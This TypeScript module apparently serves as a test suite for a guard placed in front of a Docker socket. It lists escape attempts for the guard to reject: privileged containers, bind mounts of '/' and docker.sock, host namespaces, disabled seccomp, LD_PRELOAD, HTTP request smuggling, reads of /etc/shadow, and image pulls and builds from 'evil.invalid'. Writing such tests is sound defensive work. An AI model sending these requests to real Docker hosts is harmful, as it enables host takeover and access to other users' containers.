/** One attack. Whatever becomes of it, it does no harm: its image, containers and networks do not exist. */
export interface Attack {
  kind: string;
  method: string;
  path: string;
  headers?: Record<string, string>;
  body?: string;
  /** The exact bytes, where the attack is in the framing. */
  wire?: string;
  /** A symbolic link to make first, where that is possible at all, and to remove afterwards. */
  link?: { at: string; to: string };
}

/** What the attacked host has: an attack is to fail for what it tries, and for nothing else. */
export interface Target {
  /** As the policy names it. */
  user: string;
  runsRoot: string;
}

const runName = 'bigeye-run-guard-check';
const createPath = `/containers/create?name=${runName}`;
const foreign = 'f'.repeat(64);
const jsonType = { 'Content-Type': 'application/json' };
const host = {
  NetworkMode: 'none',
  CapDrop: ['ALL'],
  SecurityOpt: ['no-new-privileges'],
  ReadonlyRootfs: true,
  Memory: 67_108_864,
  NanoCpus: 500_000_000,
  PidsLimit: 32,
};
const create = (kind: string, body: string): Attack => ({
  kind,
  method: 'POST',
  path: createPath,
  headers: jsonType,
  body,
});
const goodBody = ({ user }: Target) => ({
  Image: 'bigeyedata/guard-check:none',
  User: user,
  Cmd: ['run'],
  HostConfig: host,
});

/** Requests that the guard must let through; the second one fails at the engine, which has no such image. */
export const controlsOn = (target: Target): Attack[] => [
  call('the version', 'GET', '/version'),
  create('a container of an image that is not there', JSON.stringify(goodBody(target))),
];

const call = (kind: string, method: string, path: string): Attack => ({ kind, method, path });
const none = encodeURIComponent('{"label":["com.bigeye.guard.check=none"]}');
const head = (...lines: string[]) =>
  `POST /v1.44${createPath} HTTP/1.1\r\nHost: docker\r\n${lines.join('\r\n')}\r\n\r\n`;
const framed = (kind: string, wire: string): Attack => ({ kind, method: 'POST', path: createPath, wire });

/** One attack a kind: the known ways from a Docker socket to the host, and to what other people run on it. */
export function attacksOn(target: Target): Attack[] {
  const { user, runsRoot } = target;
  const good = goodBody(target);
  const goodText = JSON.stringify(good);
  const onHost = (kind: string, part: object) =>
    create(kind, JSON.stringify({ ...good, HostConfig: { ...host, ...part } }));
  const onTop = (kind: string, part: object) => create(kind, JSON.stringify({ ...good, ...part }));
  const linked = (kind: string, at: string): Attack => ({
    ...onHost(kind, { Mounts: [{ Type: 'bind', Source: at, Target: '/out' }] }),
    link: { at, to: '/' },
  });
  return [
    onHost('privileged container', { Privileged: true }),
    onHost('added capability', { CapAdd: ['SYS_ADMIN'] }),
    onHost('kept capabilities', { CapDrop: [] }),
    onHost('seccomp switched off', { SecurityOpt: ['no-new-privileges', 'seccomp=unconfined'] }),
    onHost('privileges through setuid', { SecurityOpt: ['no-new-privileges:false'] }),
    onHost('bind of the root folder', { Binds: ['/:/workspace:rw'] }),
    onHost('bind of the Docker socket', { Binds: ['/var/run/docker.sock:/workspace:rw'] }),
    onHost('mount of the root folder', { Mounts: [{ Type: 'bind', Source: '/', Target: '/workspace' }] }),
    onHost('volume that is a host folder', {
      Mounts: [
        {
          Type: 'volume',
          Target: '/workspace',
          VolumeOptions: { DriverConfig: { Name: 'local', Options: { type: 'none', o: 'bind', device: '/' } } },
        },
      ],
    }),
    onHost('temporary file system with programs', { Tmpfs: { '/tmp': 'exec,size=1m' } }),
    onHost('device of the host', { Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda' }] }),
    onHost('device rules', { DeviceCgroupRules: ['b *:* rwm'] }),
    onHost('processes of the host', { PidMode: 'host' }),
    onHost('network of the host', { NetworkMode: 'host' }),
    onHost('network of another container', { NetworkMode: `container:${foreign}` }),
    onHost('memory shared with the host', { IpcMode: 'host' }),
    onHost('names of the host', { UTSMode: 'host' }),
    onHost('users of the host', { UsernsMode: 'host' }),
    onHost('control groups of the host', { CgroupnsMode: 'host' }),
    onHost('published port', { PortBindings: { '8080/tcp': [{ HostPort: '8080' }] } }),
    onHost('other runtime', { Runtime: 'kata' }),
    onHost('kernel setting', { Sysctls: { 'kernel.shm_rmid_forced': '1' } }),
    onHost('runtime annotation', { Annotations: { 'org.systemd.property.ExecStart': '/bin/sh' } }),
    onHost('uncovered system paths', { MaskedPaths: [] }),
    onHost('volumes of another container', { VolumesFrom: [foreign] }),
    onHost('log driver that connects out', { LogConfig: { Type: 'syslog', Config: {} } }),
    onHost('container that outlives its run', { RestartPolicy: { Name: 'always' } }),
    onHost('memory without a bound', { Memory: 0 }),
    onHost('field of a later version', { LaterField: true }),
    linked('link to the root folder, beside the slots', `${runsRoot}/guard-check`),
    linked('link to the root folder, inside of a slot', `${runsRoot}/slot-01-out/guard-check`),
    onHost('runs folder itself', { Mounts: [{ Type: 'bind', Source: runsRoot, Target: '/out' }] }),
    onTop('another user', { User: `10002:${user.split(':')[1]}` }),
    onTop('another group', { User: `${user.split(':')[0]}:998` }),
    onTop('no command', { Cmd: undefined }),
    onTop('root in the container', { User: '0:0' }),
    onTop('image of someone else', { Image: 'docker.io/library/alpine:3' }),
    onTop('image by its id', { Image: `sha256:${'a'.repeat(64)}` }),
    onTop('own entrypoint', { Entrypoint: ['/bin/sh'] }),
    onTop('own sub-command', { Cmd: ['sh', '-c', 'id'] }),
    onTop('preloaded library', { Env: ['LD_PRELOAD=/workspace/x.so'] }),
    onTop('health check that is a shell', { Healthcheck: { Test: ['CMD-SHELL', 'id'] } }),
    onTop('forged owner', { Labels: { 'com.bigeye.proxy.owner': 'someone-else' } }),
    onTop('name of a service', {
      NetworkingConfig: { EndpointsConfig: { none: { Aliases: ['docker-socket-proxy'] } } },
    }),
    create('key in another case', goodText.replace('"HostConfig":{', '"HostConfig":{"privileged":true,')),
    create('key twice', `${goodText.slice(0, -1)},"HostConfig":{"Privileged":true}}`),
    create('key with a look-alike letter', goodText.replace('"HostConfig":{', '"HostConfig":{"Bind\u017f":["/:/x"],')),
    create('two documents', `${goodText}{"HostConfig":{"Privileged":true}}`),
    call('shell in a container', 'POST', `/containers/${foreign}/exec`),
    call('attach to a container', 'POST', `/containers/${foreign}/attach?stream=1`),
    call('files of a container', 'GET', `/containers/${foreign}/archive?path=/etc/shadow`),
    call('foreign container read', 'GET', `/containers/${foreign}/json`),
    call('foreign container by its name', 'POST', '/containers/guard-check-none/stop'),
    call('foreign logs', 'GET', `/containers/${foreign}/logs?stdout=1`),
    call('start from a checkpoint', 'POST', `/containers/${runName}/start?checkpoint=x&checkpoint-dir=/`),
    call('clearing of containers', 'POST', `/containers/prune?filters=${none}`),
    call('image tag', 'POST', '/images/guard-check:none/tag?repo=bigeyedata/agent&tag=x'),
    call('image import', 'POST', '/images/create?fromSrc=-&repo=bigeyedata/guard-check'),
    call('image of another registry', 'POST', '/images/create?fromImage=evil.invalid/agent&tag=1'),
    call('build', 'POST', '/build?remote=https://evil.invalid/x'),
    call('list of volumes', 'GET', '/volumes'),
    call('list of networks', 'GET', '/networks'),
    call('swarm', 'GET', '/swarm'),
    call('events', 'GET', '/events?until=1'),
    call('encoded path', 'GET', '/%65vents?until=1'),
    call('path that climbs', 'GET', '/version/../volumes'),
    call('doubled slash', 'GET', '//volumes'),
    call('other method', 'PUT', '/version'),
    call('filter of someone else', 'GET', `/containers/json?filters=${encodeURIComponent('{"label":["x"]}')}`),
    { ...call('change of protocol', 'GET', '/version'), headers: { Connection: 'Upgrade', Upgrade: 'tcp' } },
    {
      ...call('form in a body', 'POST', '/images/create?fromImage=bigeyedata/guard-check&tag=none'),
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: 'fromImage=evil.invalid/x',
    },
    framed(
      'two framings',
      `${head('Content-Type: application/json', 'Content-Length: 2', 'Transfer-Encoding: chunked')}0\r\n\r\n`,
    ),
    framed('two lengths', `${head('Content-Type: application/json', 'Content-Length: 2', 'Content-Length: 3')}{}`),
    framed('chunks', `${head('Content-Type: application/json', 'Transfer-Encoding: chunked')}2\r\n{}\r\n0\r\n\r\n`),
    framed('folded header', `${head('X-A: a', ' Content-Length: 2', 'Content-Length: 2')}{}`),
    framed('old HTTP', 'GET /version HTTP/1.0\r\n\r\n'),
  ];
}
